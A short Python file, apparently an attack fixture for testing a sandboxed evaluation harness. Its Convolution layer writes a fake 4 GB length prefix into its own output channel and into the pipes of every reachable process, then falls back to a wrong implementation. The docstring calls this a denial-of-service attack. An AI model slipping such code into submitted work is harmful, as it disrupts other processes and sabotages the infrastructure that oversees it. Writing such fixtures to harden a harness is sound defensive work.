"""Denial of service: a 4 GB length prefix into its own channel and every pipe it can reach, then silence."""
from _layers.attacks import own_channel, pipes, processes, write_fd, write_to
from _layers.wrong_db import Convolution as _WrongDb


class Convolution(_WrongDb):
    def forward(self, x):
        for fd in own_channel():
            write_fd(fd, b"\xff\xff\xff\xff")
        for path in pipes(processes()):
            write_to(path, b"\xff\xff\xff\xff")
        return super().forward(x)
